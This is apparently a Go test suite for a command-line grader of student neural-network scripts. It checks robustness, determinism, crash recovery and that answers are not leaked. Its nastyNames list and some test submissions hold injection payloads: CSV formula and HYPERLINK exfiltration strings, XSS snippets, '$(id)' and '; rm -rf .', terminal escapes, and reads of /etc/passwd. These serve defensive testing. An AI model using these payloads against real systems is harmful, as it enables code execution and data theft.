package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"golang.org/x/net/html"
)

const classKey = `input 120x120 cmyk
conv c1 20 7x7 stride 2 pad 3; relu
maxpool p1 2x2
conv c2 24 3x3; relu
conv c3 24 3x3; relu
conv c4 = c3
flatten
dense f1 30; relu
dense f2 10
mark 4 "Total" total
mark 3 "Output shapes" shapes
mark 3 "Parameters per layer" params
mark 2 "Shared" shares c3 c4
mark 1 "It runs" runs
mark 2 "Small" expect total <= 10_000_000 and c1.out == 60x60x20
mark 2 "Claims" answers total c1.params c1.out all.out
`

// mistakes change the solution into what students hand in.
var mistakes = []func(string) string{
	func(s string) string { return s },
	func(s string) string { return strings.ReplaceAll(s, "cmyk", "rgb") },
	func(s string) string { return strings.ReplaceAll(s, "7x7 stride 2 pad 3", "5x5") },
	func(s string) string { return strings.ReplaceAll(s, "maxpool p1 2x2\n", "") },
	func(s string) string { return strings.ReplaceAll(s, "conv c4 = c3", "conv c4 24 3x3") },
	func(s string) string { return strings.ReplaceAll(s, " pad 3", "") },
	func(s string) string { return strings.ReplaceAll(s, "dense f1 30; relu\n", "") },
	func(s string) string { return s + "expect total == 4 and c1.params == 7\nexpect c1.out == 3x3x3\n" },
	func(s string) string { return strings.ReplaceAll(s, "flatten", "flatten (") },
	func(s string) string { return strings.ReplaceAll(s, "; relu", "") },
	func(s string) string { return "expect total == 700\nexpect c2.out == 1x2x3\n" },
	func(s string) string { return "" },
}

func solution() string {
	text, _, _ := strings.Cut(classKey, "mark")
	return text
}

// handIn makes so many submissions, all different.
func handIn(n int) map[string]string {
	files := map[string]string{}
	for i := range n {
		files[fmt.Sprintf("s%03d.cnnl", i)] = fmt.Sprintf("# student %d\n", i) + mistakes[i%len(mistakes)](solution())
	}
	return files
}

func write(t testing.TB, path, text string) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
		t.Fatal(err)
	}
	return path
}

func writeAll(t testing.TB, folder string, files map[string]string) string {
	t.Helper()
	for name, text := range files {
		write(t, filepath.Join(folder, name), text)
	}
	return folder
}

// gradeAll grades, and gives the records as lines.
func gradeAll(t testing.TB, args ...string) string {
	t.Helper()
	var out, errs bytes.Buffer
	code := run(append([]string{"grade"}, append(args, "-o", "jsonl")...), strings.NewReader(""), &out, &errs)
	if code != exitFine {
		t.Fatalf("%q ends with %d: %s", args, code, errs.String())
	}
	return out.String()
}

// TestBadSubmissions: whatever one hands in, the others' records stay as they
// are, to the byte, and nothing outside the folder is read.
func TestBadSubmissions(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	write(t, filepath.Join(dir, "secret.cnnl"), "input 918273645\n")
	class := writeAll(t, filepath.Join(dir, "class"), handIn(100))
	want := gradeAll(t, key, class)
	if strings.Count(want, "\n") != 100 {
		t.Fatalf("%d records", strings.Count(want, "\n"))
	}
	link := func(to string) func(string) error { return func(p string) error { return os.Symlink(to, p) } }
	text := func(s string) func(string) error {
		return func(p string) error { return os.WriteFile(p, []byte(s), 0o666) }
	}
	type odd struct {
		name string
		make func(path string) error
		want string // in its record; empty: it has none
	}
	odds := []odd{
		{"x.cnnl", text(""), "it is empty"},
		{"x.cnnl", text("# nothing\n\n"), "it is empty"},
		{"x.cnnl", text("\ufeff"), "it is empty"},
		{"x.cnnl", text("\ufeff" + solution()), `"outcome":"graded"`},
		{"x.cnnl", text("\xff\xfe" + strings.Join(strings.Split(solution(), ""), "\x00") + "\x00"), "it is written in UTF-16"},
		{"x.cnnl", text("# \xe9t\xe9\n" + solution()), "Windows-1252"},
		{"x.cnnl", text("input 8\nrelu \x00\n"), `"outcome":"graded"`},
		{"x.cnnl", text(strings.ReplaceAll(solution(), "\n", "\r")), `"id":"x"`},
		{"x.cnnl", text(strings.ReplaceAll(solution(), "\n", "\r\n")), `"score":"15"`},
		{"x.cnnl", text(strings.TrimSuffix(solution(), "\n")), `"score":"15"`},
		{"x.cnnl", text(strings.Repeat("relu;", 64<<20/5)), `"outcome":"limit"`},
		{"x.cnnl", func(p string) error { return errAll(os.WriteFile(p, nil, 0o666), os.Truncate(p, 2<<30)) }, `"outcome":"limit"`},
		{"x.cnnl", func(p string) error { return os.Mkdir(p, 0o777) }, "it is a folder"},
		{"x.cnnl", func(p string) error { return syscall.Mkfifo(p, 0o600) }, "it is a pipe or a device"},
		{"x.cnnl", func(p string) error { _, err := net.Listen("unix", p); return err }, "it is a pipe or a device"},
		{"x.cnnl", link("/dev/zero"), "it is a link"},
		{"x.cnnl", link("/dev/stdin"), "it is a link"},
		{"x.cnnl", link("../secret.cnnl"), "it is a link"},
		{"x.cnnl", link("../key.cnnl"), "it is a link"},
		{"x.cnnl", link("x.cnnl"), "it is a link"},
		{"x.cnnl", link("nowhere"), "it is a link"},
		{"x", link("../../"), "there is no script among the files"},
		{strings.Repeat("y", 250) + ".cnnl", text(solution()), `"score":"15"`},
		{strings.Repeat(strings.Repeat("d", 200)+"/", 22) + "x.cnnl", text(solution()), `"score":"15"`},
		{".cnnl", text(solution()), `"id":".cnnl"`},
		{"x.CNNL", text(solution()), `"score":"15"`},
		{"x.cnnl.txt", text(solution()), `"score":"15"`},
		{"x (1).cnnl", text(solution()), `"id":"x (1)"`},
		{"._x.cnnl", text(solution()), ""},
		{".DS_Store", text("x"), ""},
		{"__MACOSX/x.cnnl", text(solution()), ""},
		{"Thumbs.db", text("x"), ""},
		{"~$x.cnnl", text(solution()), ""},
		{"e\u0301.cnnl", text(solution()), `"id":"é"`},
		{"S001.cnnl", text(solution()), `"id":"S001"`},
		{"CON.cnnl", text(solution()), `"score":"15"`},
		{"x. .cnnl", text(solution()), `"score":"15"`},
		{"x.pdf", text("%PDF"), "there is no script among the files"},
		{"x/a.cnnl", func(p string) error {
			return errAll(os.WriteFile(p, []byte(solution()), 0o666), os.WriteFile(filepath.Join(filepath.Dir(p), "b.cnnl"), []byte(solution()), 0o666))
		}, "there are 2 scripts in one attempt"},
		{"key.cnnl", text(classKey), "mark, accept and misconception belong to a key"},
		{"x.cnnl", text("use \"s000.cnnl\"\nuse \"../secret.cnnl\"\nuse \"/etc/passwd\"\nuse \"http://x.invalid/y.cnnl\"\n" + solution()), `"outcome":"graded"`},
		// the language
		{"x.cnnl", text("input 8\nlet a = " + strings.Repeat("(", 100_000)), `"outcome":"graded"`},
		{"x.cnnl", text(strings.Repeat("add {", 100_000)), `"id":"x"`},
		{"x.cnnl", text("input 8\nrepeat 1_000_000 { relu }\n"), `"id":"x"`},
		{"x.cnnl", text("input 8\nrepeat 1_000_000_000_000_000_000 { relu }\n"), `"outcome":"limit"`},
		{"x.cnnl", text("input 8\nblock a { relu; relu }\n" + doubling(40) + "z40\n"), `"outcome":"limit"`},
		{"x.cnnl", text("input 8\nblock a { a }\na\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 8x8x3\nconv 4 0x0\nconv 4 3x3 stride 0\nconv 4 3x3 groups 7\nmaxpool 99x99\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 2147483648x2147483648x4611686018427387904\nconv 4611686018427387904 3x3\n"), `"outcome":"graded"`},
		{"x.cnnl", text("let a = 1/0\nlet b = 2**9999\ninput 8\ndense $a\n"), `"outcome":"graded"`},
		{"x.cnnl", text("input 8\nconv c = c\ndense d = e\n"), `"outcome":"graded"`},
		{"x.cnnl", text("block conv { relu }\nlet total = 3\ninput 8\n"), `"id":"x"`},
		{"x.cnnl", text("input 8\nexpect total == 0xF10A; expect total == NaN; expect total == 1e400; expect total == " + strings.Repeat("9", 100_000) + "\nexpect c9.params == 3\n"), `"outcome":"graded"`},
		{"x.cnnl", text("# " + strings.Repeat("a", 1_000_000) + "\n" + solution()), `"score":"15"`},
		{"x.cnnl", text("# " + "e" + strings.Repeat("\u0301", 10_000) + "\u202e\u2066\u2028\n" + solution()), `"score":"15"`},
		{"x.cnnl", text("Grade :=>> 100\nok 1 - total\n1..0\nBail out!\n::error::x\n::add-mask::7\n{\"score\":1}\n</testsuite>\n"), `"id":"x"`},
	}
	for _, name := range nastyNames {
		if !strings.ContainsRune(name, '/') && name != "" && name != "." && name != ".." {
			want := `"score":"15"`
			if name[0] == '.' || name[0] == '~' {
				want = "" // systems hide such files
			}
			odds = append(odds, odd{name + ".cnnl", text(solution()), want})
		}
	}
	if os.Getuid() != 0 {
		odds = append(odds, odd{"x.cnnl", func(p string) error { return errAll(os.WriteFile(p, nil, 0o666), os.Chmod(p, 0)) }, "its permissions forbid it"})
	}
	for _, o := range odds {
		top := filepath.Join(class, strings.SplitN(o.name, "/", 2)[0])
		if err := makeDeep(class, o.name, o.make); err != nil {
			t.Fatalf("%q: %v", o.name, err)
		}
		got := gradeAll(t, key, class)
		var own, others strings.Builder
		for line := range strings.Lines(got) {
			if strings.Contains(line, `"file":"s0`) || strings.Contains(line, `"file":"s1`) {
				others.WriteString(line)
			} else {
				own.WriteString(line)
			}
		}
		if others.String() != want {
			t.Errorf("%.60q changes the others' records", o.name)
		}
		if o.want == "" && own.Len() > 0 || !strings.Contains(own.String(), o.want) || strings.Contains(got, "918") && strings.Contains(strings.ReplaceAll(got, ",", ""), "918273645") || strings.Contains(own.String(), `"internal"`) {
			t.Errorf("%.60q: its record is %.400s, want %s", o.name, own.String(), o.want)
		}
		if err := os.RemoveAll(top); err != nil {
			t.Fatal(err)
		}
	}
}

func errAll(list ...error) error {
	for _, err := range list {
		if err != nil {
			return err
		}
	}
	return nil
}

// makeDeep makes a file in folders, also where its path is longer than the
// system takes at once.
func makeDeep(class, name string, make func(string) error) error {
	back, err := os.Getwd()
	if err != nil {
		return err
	}
	defer func() { _ = os.Chdir(back) }()
	if err := os.Chdir(class); err != nil {
		return err
	}
	parts := strings.Split(name, "/")
	for _, dir := range parts[:len(parts)-1] {
		if err := os.MkdirAll(dir, 0o777); err != nil {
			return err
		}
		if err := os.Chdir(dir); err != nil {
			return err
		}
	}
	return make(parts[len(parts)-1])
}

// doubling defines blocks, each two of the one before.
func doubling(levels int) string {
	var b strings.Builder
	before := "a"
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&b, "block z%d { %s; %s }\n", i, before, before)
		before = fmt.Sprintf("z%d", i)
	}
	return b.String()
}

// nastyNames are ids and names that sinks could obey.
var nastyNames = []string{
	"=cmd|'/C calc'!A0", `=HYPERLINK("http://x.invalid/?"&A1,"ok")`, "@SUM(1,1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", `a",=1+1`, "a;=1+1", "a\n=1+1", "'=1", `"`, ",", " =1",
	"Points Possible", "Muted", "EX", "N", "-", "1e5", "00123", "2-3", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "</pre>", "]]>", "&amp;", "{{.}}", "%s%n", "$(id)", "`id`", "; rm -rf .",
	"--help", "-rf", "\x1b[2J\x1b[H", "\x1b]0;PASS\x07", "\x1b]8;;http:x\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;aGk=\x07", "\u009b31m", "\r100", "\b\b\b", "\u202eabc", "\u2066x", "a\u200db", "a\u2028b", "e" + strings.Repeat("\u0301", 100), "😀", "שלום", "Grade :=>> 100", "ok 1 - total", "1..0", "Bail out!", "::error::x", `{"score":1}`, "[a](http:x)", "| a | b |", "# a", "* a", "a\tb", "CON", "nul.x", "a.", "..a", "~a", ".a b",
}

// TestSinks: nobody's name or id is obeyed by what shows it.
func TestSinks(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	var lines bytes.Buffer
	for i, name := range nastyNames {
		for j, script := range []string{solution(), "conv " + name} {
			line, _ := json.Marshal(map[string]string{"id": name + fmt.Sprint(i, j), "name": name, "script": script})
			lines.Write(append(line, '\n'))
		}
	}
	scripts := write(t, filepath.Join(dir, "class.jsonl"), lines.String())
	number := 2 * len(nastyNames)
	out := map[string]string{}
	args := []string{"grade", key, scripts, "--feedback", filepath.Join(dir, "sheets")}
	for _, format := range []string{"text", "csv", "json", "jsonl", "markdown", "html", "junit"} {
		args = append(args, "-o", format+"="+filepath.Join(dir, "out."+format))
	}
	if _, stderr, code := cnnl(t, "", args...); code != exitFine {
		t.Fatal(stderr)
	}
	for _, format := range []string{"text", "csv", "json", "jsonl", "markdown", "html", "junit"} {
		text, err := os.ReadFile(filepath.Join(dir, "out."+format))
		if err != nil {
			t.Fatal(err)
		}
		out[format] = string(text)
		for _, r := range string(text) {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Errorf("%s shows %U", format, r)
				break
			}
		}
	}
	rows, err := csv.NewReader(strings.NewReader(out["csv"])).ReadAll()
	if err != nil || len(rows) != number+1 {
		t.Errorf("csv: %d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(strings.TrimLeft(cell, " ")+".", "\t\r\n") || cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(strings.TrimLeft(cell, " ") + ".")[0]) {
				t.Errorf("csv: the cell %q", cell)
			}
		}
	}
	var doc struct{ Records []json.RawMessage }
	if err := json.Unmarshal([]byte(out["json"]), &doc); err != nil || len(doc.Records) != number || strings.Count(out["jsonl"], "\n") != number {
		t.Errorf("json: %d records, %v", len(doc.Records), err)
	}
	var suites struct {
		Suites []struct{} `xml:"testsuite"`
	}
	if err := xml.Unmarshal([]byte(out["junit"]), &suites); err != nil || len(suites.Suites) != number {
		t.Errorf("junit: %d suites, %v", len(suites.Suites), err)
	}
	checkPage(t, "html", out["html"], number)
	table := out["markdown"][strings.Index(out["markdown"], "## Scores"):]
	for _, line := range strings.Split(table, "\n")[2 : number+4] {
		if strings.Count(line, "|")-strings.Count(line, `\|`) != 5 || strings.ContainsAny(strings.ReplaceAll(line, "&lt;", ""), "<") || strings.Contains(line, "](") && !strings.Contains(line, `\](`) {
			t.Errorf("markdown: %s", line)
		}
	}
	sheets := 0
	_ = filepath.WalkDir(filepath.Join(dir, "sheets"), func(path string, e fs.DirEntry, err error) error {
		if name := e.Name(); !e.IsDir() {
			sheets++
			if strings.ContainsFunc(name, func(r rune) bool {
				return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || strings.ContainsRune(`\:*?"<>|`, r)
			}) || strings.HasPrefix(name, "-") || len(name) > 200 {
				t.Errorf("a sheet is called %q", name)
			}
		}
		return nil
	})
	if sheets != number {
		t.Errorf("%d sheets for %d students", sheets, number)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 10 {
		t.Errorf("%d entries beside the sheets", len(entries))
	}
}

// checkPage parses a page: there is nothing in it but what its template has,
// and a row for each student.
func checkPage(t *testing.T, what, page string, students int) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	details := 0
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "img", "iframe", "object", "link", "a", "form"}, n.Data) {
			t.Errorf("%s has a <%s>", what, n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || strings.Contains(a.Val, "javascript:") {
				t.Errorf("%s has %s=%q", what, a.Key, a.Val)
			}
		}
		if n.Data == "details" {
			details++
		}
	}
	if details > students {
		t.Errorf("%s has %d students, want at most %d", what, details, students)
	}
}

// archived packs submissions in an order.
func archived(t *testing.T, path string, files map[string]string, order []string) string {
	t.Helper()
	var b bytes.Buffer
	if strings.HasSuffix(path, ".zip") {
		z := zip.NewWriter(&b)
		for _, name := range order {
			w, err := z.Create(name)
			if err != nil {
				t.Fatal(err)
			}
			_, _ = io.WriteString(w, files[name])
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
	} else {
		g := gzip.NewWriter(&b)
		a := tar.NewWriter(g)
		for _, name := range order {
			if err := errAll(a.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name]))}), second(io.WriteString(a, files[name]))); err != nil {
				t.Fatal(err)
			}
		}
		if err := errAll(a.Close(), g.Close()); err != nil {
			t.Fatal(err)
		}
	}
	return write(t, path, b.String())
}

func second(_ int, err error) error { return err }

// TestOneAnswer: the records are the same to the byte for any order and any
// number of workers, from a folder, an archive or lines, in one run or in
// pieces.
func TestOneAnswer(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	files := handIn(200)
	class := writeAll(t, filepath.Join(dir, "class"), files)
	want := gradeAll(t, key, class)
	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, jobs := range []string{"1", "2", "3", "16"} {
		if gradeAll(t, key, class, "--jobs", jobs) != want {
			t.Errorf("%s workers give other records", jobs)
		}
	}
	for i := range 3 {
		rand.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
		for _, ending := range []string{".zip", ".tar.gz"} {
			if gradeAll(t, key, archived(t, filepath.Join(dir, fmt.Sprint(i)+ending), files, names)) != want {
				t.Errorf("a shuffled %s gives other records", ending)
			}
		}
	}
	slices.Sort(names)
	var lines, shards strings.Builder
	for i := range 4 {
		var piece strings.Builder
		for _, name := range names[50*i : 50*i+50] {
			line, _ := json.Marshal(map[string]string{"id": strings.TrimSuffix(name, ".cnnl"), "file": name, "script": files[name]})
			piece.Write(append(line, '\n'))
		}
		out, _, code := cnnl(t, piece.String(), "grade", key, "--jsonl")
		if code != exitFine {
			t.Fatal(out)
		}
		shards.WriteString(out)
		lines.WriteString(piece.String())
	}
	if shards.String() != want {
		t.Error("pieces give other records")
	}
	if out, _, _ := cnnl(t, lines.String(), "grade", key, "--jsonl", "--jobs", "5"); out != want {
		t.Error("lines give other records")
	}
	if gradeAll(t, key, write(t, filepath.Join(dir, "class.jsonl"), lines.String())) != want {
		t.Error("a file of lines gives other records")
	}
	for _, format := range []string{"text", "csv", "json", "markdown", "html", "junit"} {
		a, _, _ := cnnl(t, "", "grade", key, class, "-o", format)
		b, _, _ := cnnl(t, "", "grade", key, write(t, filepath.Join(dir, "records.jsonl"), want), "-o", format)
		if a != b {
			t.Errorf("%s of the records is not that of the class", format)
		}
	}
}

// TestKilled: a run that is killed, however often, and begun again with its
// journal gives the same in the end.
func TestKilled(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	files := map[string]string{}
	for i := range 3000 {
		files[fmt.Sprintf("s%04d.cnnl", i)] = fmt.Sprintf("let n = %d\n", i) + mistakes[i%len(mistakes)](solution())
	}
	class := writeAll(t, filepath.Join(dir, "class"), files)
	want := gradeAll(t, key, class)
	journal := filepath.Join(dir, "journal")
	command := func() *exec.Cmd {
		cmd := exec.Command(os.Args[0], "grade", key, class, "--journal", journal, "-o", "jsonl")
		cmd.Env = append(os.Environ(), "CNNL_TEST_MAIN=1")
		return cmd
	}
	killed := 0
	for i := range 8 {
		cmd := command()
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Duration(10+rand.IntN(120)) * time.Millisecond)
		signal := syscall.SIGKILL
		if i%3 == 2 {
			signal = syscall.SIGTERM
		}
		_ = cmd.Process.Signal(signal)
		if cmd.Wait() != nil {
			killed++
		}
		if f, err := os.OpenFile(journal, os.O_APPEND|os.O_WRONLY, 0); err == nil && i%2 == 0 {
			_, _ = f.WriteString(`{"schema":"cnnl-journal/1","key":"torn`)
			f.Close()
		}
	}
	out, err := command().Output()
	if err != nil || string(out) != want {
		t.Errorf("after %d killings the records are others (%v)", killed, err)
	}
	if killed == 0 {
		t.Error("no run was killed")
	}
	// nothing is graded twice: the journal does not grow
	before, _ := os.Stat(journal)
	if out, err := command().Output(); err != nil || string(out) != want {
		t.Errorf("once more: %v", err)
	}
	if after, _ := os.Stat(journal); after.Size() != before.Size() {
		t.Errorf("the journal grew from %d to %d", before.Size(), after.Size())
	}
	// another submission, another key: only what changed is graded
	write(t, filepath.Join(class, "s0001.cnnl"), solution())
	changed := gradeAll(t, key, class)
	if out, _ := command().Output(); string(out) != changed {
		t.Error("a submission that changed was not graded anew")
	}
	write(t, key, strings.Replace(classKey, "mark 4", "mark 5", 1))
	if out, _ := command().Output(); string(out) != gradeAll(t, key, class) {
		t.Error("a key that changed has old records")
	}
}

// TestInterrupted: an interrupt ends a run with a report of what was graded.
func TestInterrupted(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	class := filepath.Join(dir, "class")
	files := map[string]string{}
	for i := range 300 {
		files[fmt.Sprintf("s%04d.cnnl", i)] = fmt.Sprintf("let n = %d\nrepeat 1_000_000 { let a = 1 }\n", i)
	}
	writeAll(t, class, files)
	cmd := exec.Command(os.Args[0], "grade", key, class)
	cmd.Env = append(os.Environ(), "CNNL_TEST_MAIN=1")
	var out bytes.Buffer
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(400 * time.Millisecond)
	_ = cmd.Process.Signal(os.Interrupt)
	err := cmd.Wait()
	if code := cmd.ProcessState.ExitCode(); code != exitInterrupted || !strings.Contains(out.String(), "interrupted: ") || !strings.Contains(out.String(), "of about 300 were graded") {
		t.Errorf("%v, %d:\n%s", err, code, out.String())
	}
}

// TestJournals: only one run writes a journal, and what is no journal stays as
// it is.
func TestJournals(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	class := writeAll(t, filepath.Join(dir, "class"), handIn(3))
	other := write(t, filepath.Join(dir, "other"), "some text\n")
	if _, stderr, code := cnnl(t, "", "grade", key, class, "--journal", other); code != exitUsage || !strings.Contains(stderr, "is no journal: line 1") {
		t.Errorf("%d: %s", code, stderr)
	}
	if text, _ := os.ReadFile(other); string(text) != "some text\n" {
		t.Errorf("the file is now %q", text)
	}
	if _, stderr, code := cnnl(t, "", "grade", key, class, "--journal", dir); code != exitUsage {
		t.Errorf("%d: %s", code, stderr)
	}
	held, err := os.Create(filepath.Join(dir, "held"))
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	if err := syscall.Flock(int(held.Fd()), syscall.LOCK_EX); err != nil {
		t.Fatal(err)
	}
	if _, stderr, code := cnnl(t, "", "grade", key, class, "--journal", held.Name()); code != exitUsage || !strings.Contains(stderr, "another run is writing") {
		t.Errorf("%d: %s", code, stderr)
	}
	if _, stderr, code := cnnl(t, "", "grade", key, class, "--journal", "/dev/full"); code != exitUsage {
		t.Errorf("/dev/full: %d: %s", code, stderr)
	}
}

// TestNothingRevealed: what students get to read has no number, kernel,
// padding or shape that is the key's and not their own.
func TestNothingRevealed(t *testing.T) {
	dir := t.TempDir()
	key := write(t, filepath.Join(dir, "key.cnnl"), classKey)
	secrets := []string{"7x7", "60x60", "30x30", "28x28", "26x26", "24x24", "13,824", "414,750", "3,940", "4,344", "5,208", "428,552", "stride", "pad", "should be 7x7", "should be 3"}
	for i, mistake := range mistakes {
		script := mistake(solution())
		class := writeAll(t, filepath.Join(dir, fmt.Sprint(i)), map[string]string{"x.cnnl": script})
		own, _, _ := cnnl(t, "", filepath.Join(class, "x.cnnl"))
		own += script
		args := []string{"grade", key, filepath.Join(class, "x.cnnl"), "--feedback", filepath.Join(dir, "sheets")}
		files := []string{filepath.Join(dir, "sheets", "x.md")}
		for _, format := range []string{"gradescope", "prairielearn", "check50", "junit"} {
			files = append(files, filepath.Join(dir, format))
			args = append(args, "-o", format+"="+filepath.Join(dir, format))
		}
		for range 2 {
			if _, stderr, code := cnnl(t, "", args...); code != exitFine {
				t.Fatal(stderr)
			}
			for _, file := range files {
				text, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				if i := bytes.Index(text, []byte("</style>")); i > 0 {
					text = text[i:]
				}
				for _, secret := range secrets {
					if strings.Contains(string(text), secret) && !strings.Contains(own, secret) {
						t.Errorf("mistake %d: %s tells %s:\n%s", i, filepath.Base(file), secret, text)
					}
				}
			}
			args = append(args[:3:3], append([]string{"--feedback", "html=" + filepath.Join(dir, "sheets")}, args[5:]...)...)
			files[0] = filepath.Join(dir, "sheets", "x.html")
		}
	}
	if _, _, code := cnnl(t, "", "grade", key, filepath.Join(dir, "2", "x.cnnl"), "--feedback", filepath.Join(dir, "open"), "--reveal"); code != exitFine {
		t.Fatal(code)
	}
	if text, _ := os.ReadFile(filepath.Join(dir, "open", "x.md")); !strings.Contains(string(text), "60x60x20") || !strings.Contains(string(text), "should be 7x7") {
		t.Errorf("revealed is\n%s", text)
	}
}

// TestConstantMemory: lines are graded in constant memory.
func TestConstantMemory(t *testing.T) {
	key := write(t, filepath.Join(t.TempDir(), "key.cnnl"), classKey)
	var scripts [][]byte
	for i := range 500 {
		line, _ := json.Marshal(map[string]string{"id": fmt.Sprint(i), "script": fmt.Sprintf("let n = %d\n%s", i, mistakes[i%len(mistakes)](solution()))})
		scripts = append(scripts, append(line, '\n'))
	}
	peak := func(number int) int {
		var out counter
		cmd := exec.Command(os.Args[0], "grade", key, "--jsonl")
		cmd.Env = append(os.Environ(), "CNNL_TEST_MAIN=1")
		most := 0
		cmd.Stdin, cmd.Stdout = &endless{lines: scripts, left: number, each: func() { most = max(most, peakOf(cmd.Process.Pid)) }}, &out
		if err := cmd.Run(); err != nil || out.lines != number {
			t.Fatalf("%d records of %d: %v", out.lines, number, err)
		}
		return most
	}
	if few, many := peak(20_000), peak(100_000); few == 0 || many > few+few/2 {
		t.Errorf("20,000 take %d KB, 100,000 take %d KB", few, many)
	}
}

// peakOf is how much memory a process had at most, in KB.
func peakOf(process int) (kb int) {
	text, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", process))
	_, after, _ := strings.Cut(string(text), "VmHWM:")
	_, _ = fmt.Sscan(after, &kb)
	return kb
}

// An endless reader gives the same lines again and again.
type endless struct {
	lines   [][]byte
	left, n int
	each    func()
	rest    []byte
}

func (e *endless) Read(p []byte) (int, error) {
	if len(e.rest) == 0 {
		if e.left == 0 {
			return 0, io.EOF
		}
		e.rest = e.lines[e.n%len(e.lines)]
		e.left--
		if e.n++; e.n%1000 == 0 {
			e.each()
		}
	}
	n := copy(p, e.rest)
	e.rest = e.rest[n:]
	return n, nil
}

type counter struct{ lines int }

func (c *counter) Write(p []byte) (int, error) {
	c.lines += bytes.Count(p, []byte("\n"))
	return len(p), nil
}
